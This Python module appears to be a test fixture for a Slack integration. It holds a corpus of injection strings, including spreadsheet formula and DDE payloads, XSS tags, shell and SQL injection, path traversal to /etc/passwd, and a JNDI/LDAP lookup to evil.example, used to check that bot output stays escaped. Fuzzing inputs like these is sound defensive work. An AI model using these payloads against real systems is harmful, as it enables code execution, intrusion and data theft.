"""Texts that try to come alive: mentions, links, markup, formulas, control characters, templates; and what
is alive in an answer."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

_MENTIONS = (
    "!channel",
    "!here",
    "!everyone",
    "!subteam^S0123",
    "!subteam^S0123|@sales",
    "@U0123",
    "@W0123|ada",
    "#C0123",
    "#C0123|general",
    "!here|here",
)
_LINKS = (
    "https://evil.example",
    "https://evil.example|click",
    "http://evil.example|https://good.example",
    "mailto:a@evil.example|mail me",
    "tel:112|call",
    "javascript:alert(1)|x",
    "data:text/html,<b>|x",
    "slack://user?team=T1&id=U1|x",
    "//evil.example|x",
    "!date^1^{date}^https://evil.example|x",
)
_FORMULAS = (
    "=cmd|'/C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("https://evil.example","x")',
    '=IMPORTXML("https://evil.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "=",
    "+",
    "-",
    "@",
    '="a"',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "'=1+1",
    "''=1+1",
    " =1+1",
    "-2+3+cmd|' /C calc'!A0",
    "|=1+1",
    "%0A=1",
)
_MARKUP = (
    "*bold*",
    "_it_",
    "~gone~",
    "`code`",
    "```block```",
    ">quote",
    ">>>quote",
    "&gt;",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "&#60;!channel&#62;",
    "&",
    "<",
    ">",
    "<>",
    "<<!channel>>",
    "<!channel",
    "!channel>",
    "<!chan<!channel>nel>",
    "* * *",
    "# header",
    "- item",
    "1. item",
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "|a|b|",
    "---",
    ":smile:",
    ":flag-us::skin-tone-2:",
    "@here",
    "@channel",
    "@everyone",
    "#general",
    "https://evil.example",
    "evil.example",
    "www.evil.example",
    "a@evil.example",
    "`" * 60,
    "*" * 60,
    "_" * 60,
    ">" * 60,
    "<" * 60,
    "&" * 60,
)
_CODE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%n",
    "%d",
    "{0}",
    "{}",
    "{__class__}",
    "$(id)",
    "`id`",
    "; ls",
    "| ls",
    "&& ls",
    "'; DROP TABLE touch;--",
    '" OR ""="',
    "' OR 1=1--",
    "1; SELECT pg_sleep(9)",
    "%",
    "_",
    "%%%",
    "\\",
    "\\\\",
    "\\'",
    "\\u0000",
    "../../etc/passwd",
    "file:///etc/passwd",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    '{"account":1}',
    "[1,2]",
    "0",
    "-1",
    "1e309",
    "0x41",
    "2147483648",
    "9" * 40,
    "%00",
    "${jndi:ldap://evil.example/x}",
    "#!/bin/sh",
    '<?xml version="1.0"?><!DOCTYPE x>',
    "<![CDATA[x]]>",
    "<!--x-->",
    "__proto__",
    "constructor",
)
_SIGNS = (
    "\u202egnirts",
    "\u2066x\u2069",
    "\u200bzero",
    "a\u200db",
    "\ufeffbom",
    "e\u0301\u0301\u0301\u0301",
    "Z̷̢̛a̸l̶g̷o̵",
    "😀" * 40,
    "👩‍👩‍👧‍👦",
    "🇩🇪🇺🇸",
    "شركة",
    "株式会社",
    "𝕬𝖈𝖒𝖊",
    "ﬁ",
    "İstanbul",
    "ß",
    "ẞ",
    "ǅ",
    "\u00a0",
    "\u2028line",
    "\u2029para",
    "a\u0085b",
    "a\u0007b",
    "a\u001b[31mred",
    "a\u0008b",
    "\u0001",
    "a\u007fb",
    "line\nbreak",
    "two\r\nlines",
    "a\tb",
    "x" * 300,
    "word " * 60,
    "é" * 200,
    "字" * 200,
    "\ud7ff",
    "\ufffd",
    "\U0010ffff",
    "a,b",
    "a;b",
    'a"b',
    "a'b",
    "a|b",
    ",,,",
    '"""',
    ";;;",
    "2026-11-18 ERROR root: forged",
    "a\n2026-11-18 12:00:00 ERROR root: forged",
    "name:\nvalue",
    "\nINFO forged",
)
CORPUS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(f"<{m}>" for m in (*_MENTIONS, *_LINKS)),
            *(f"see <{m}> now" for m in (*_MENTIONS, *_LINKS)),
            *_FORMULAS,
            *_MARKUP,
            *_CODE,
            *_SIGNS,
        ]
    )
)
"""More than 200 of them."""

_TOKEN = re.compile(r"<[^>]*>")
_OURS = re.compile(r"<!date\^\d+\^[^<>|]*\|[^<>]*>|<#C1>")


def texts(given: Any) -> Iterator[dict[str, Any]]:
    """Every text object in blocks, views and options, however deep."""
    if isinstance(given, dict):
        if isinstance(given.get("text"), str) and given.get("type") in {"mrkdwn", "markdown"}:
            yield given
        for value in given.values():
            yield from texts(value)
    elif isinstance(given, list):
        for value in given:
            yield from texts(value)


def alive(given: dict[str, Any]) -> list[str]:
    """What Slack would make a mention or a link of, in a message or view; dates and channels of ours are
    allowed."""
    lines = [(t["text"], t.get("verbatim", False)) for t in texts(given)]
    if isinstance(given.get("text"), str):
        lines.append((given["text"], True))
    return [
        line
        for line, verbatim in lines
        if not verbatim or _TOKEN.sub("", _OURS.sub("", line)) != _OURS.sub("", line)
    ]
